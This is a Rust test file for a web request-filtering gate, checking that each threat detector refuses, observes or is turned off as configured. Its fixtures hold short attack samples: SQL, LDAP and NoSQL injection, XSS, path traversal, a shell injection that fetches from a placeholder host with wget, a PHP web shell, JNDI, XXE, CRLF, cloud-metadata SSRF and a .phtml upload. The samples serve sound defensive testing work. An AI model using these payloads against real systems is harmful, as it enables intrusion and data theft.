//! Each detector refuses, observes or is off, as configured; the explanation is what the gate would do.

use serde_json::{Value, json};
use threat::Class;

use super::*;
use crate::{
    Config,
    explain::{Explainer, Summary, Verdict},
};

fn config(off: &[Class], observe: &[Class]) -> Config {
    let limit = json!({"per_address": 1, "per_account": 1, "seconds": 1, "burst_per_address": 1, "burst_per_account": 1,
        "burst_seconds": 1});
    let words = |classes: &[Class]| classes.iter().map(|class| class.as_str()).collect::<Vec<_>>();
    serde_json::from_value(json!({
        "deny": [], "allow": [], "body_seconds": 1, "remembered_callers": 1, "cors": {"origins": []}, "probe": true,
        "limits": {"read": limit, "write": limit, "sign_in": limit, "sign_up": limit, "heavy": limit, "plans": {},
            "ipv6": {"prefix": 64, "network_prefix": 48, "network_factor": 16}, "redis": "", "redis_deadline_ms": 1, "redis_rest_ms": 1},
        "countries": {"allow": [], "deny": [], "database": ""},
        "blocks": {"automatic": "off", "threshold": 1, "half_life_seconds": 1, "first_seconds": 1, "longest_seconds": 1,
            "memory_seconds": 1, "never": []},
        "detection": {"off": words(off), "observe": words(observe), "observe_routes": []},
    }))
    .unwrap()
}

fn judge(config: &Config, request: &Value) -> Verdict {
    let line = json!({ "request": request }).to_string();
    Explainer::new(config, None).line(&line, &mut Summary::default()).unwrap()
}

/// One request for each class that no other class refuses.
fn attacks() -> Vec<(Class, Value)> {
    let query = |value: &str| {
        let query = form_urlencoded::Serializer::new(String::new()).append_pair("q", value).finish();
        json!({"method": "GET", "target": format!("/a?{query}")})
    };
    let name = "Content-Disposition: form-data; name=\"f\"; filename=\"a.phtml\"";
    let upload = format!("--x\r\n{name}\r\n\r\nhello\r\n--x--\r\n");
    let upload = base64::Engine::encode(&base64::prelude::BASE64_STANDARD, upload);
    vec![
        (Class::Control, query("\u{1b}[2J\u{1b}]0;title\u{7}")),
        (Class::Sql, query("7' or 3 > 2 --")),
        (Class::Html, query("<svg onload=go>")),
        (Class::Path, query("../../../notes/private")),
        (Class::Shell, query("a; wget http://a.example/b")),
        (Class::Code, query("<?php system($_GET['a']); ?>")),
        (Class::Template, query("{{7*7}}")),
        (Class::Jndi, query("${jndi:dns:a}")),
        (Class::NoSql, json!({"method": "GET", "target": "/a?user[$ne]=1"})),
        (Class::Ldap, query("*)(uid=*))(|(uid=*")),
        (Class::Xml, query("<!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]><a>&b;</a>")),
        (Class::Line, query("a\r\nSet-Cookie: b=c")),
        (Class::Ssrf, query("http://169.254.169.254/latest/meta-data/")),
        (Class::Prototype, json!({"method": "GET", "target": "/a?__proto__[admin]=1"})),
        (
            Class::Upload,
            json!({"method": "POST", "target": "/a", "body_base64": upload,
            "headers": [["Content-Type", "multipart/form-data; boundary=x"]]}),
        ),
    ]
}

#[test]
fn each_detector_refuses_lets_pass_or_observes_as_configured() {
    let attacks = attacks();
    assert_eq!(attacks.len(), Class::ALL.len());
    for (class, request) in &attacks {
        let on = judge(&config(&[], &[]), request);
        let told = on.threat.as_ref().map(|told| told.class);
        assert_eq!((on.verdict, told), ("refuse", Some(class.as_str())), "{request}");
        let off = judge(&config(&[*class], &[]), request);
        assert_eq!((off.verdict, off.observed.len()), ("pass", 0), "{class:?} off: {off:?}");
        let observed = judge(&config(&[], &[*class]), request);
        assert_eq!(observed.verdict, "pass", "{class:?} observed: {observed:?}");
        assert!(observed.observed.iter().any(|told| told.class == class.as_str()), "{observed:?}");
    }
}

#[test]
fn a_detector_that_observes_hides_nothing_from_the_others() {
    let both = json!({"method": "GET", "target": "/a?q=%3Cscript%3Esteal()%3C/script%3E7'+or+3+%3E+2+--"});
    let verdict = judge(&config(&[], &[Class::Html]), &both);
    assert_eq!(verdict.threat.map(|told| told.class), Some("sql"));
}

#[test]
fn a_route_is_named_as_the_table_writes_it() {
    let spec = Spec { path: "/charts/{id}".to_owned(), ..Spec::unrouted(http::Method::POST) };
    assert!(names("POST /api/v1/charts/{id}", &spec));
    for other in ["GET /api/v1/charts/{id}", "POST /charts/{id}", "POST /api/v1/charts", "POST", ""] {
        assert!(!names(other, &spec), "{other}");
    }
}
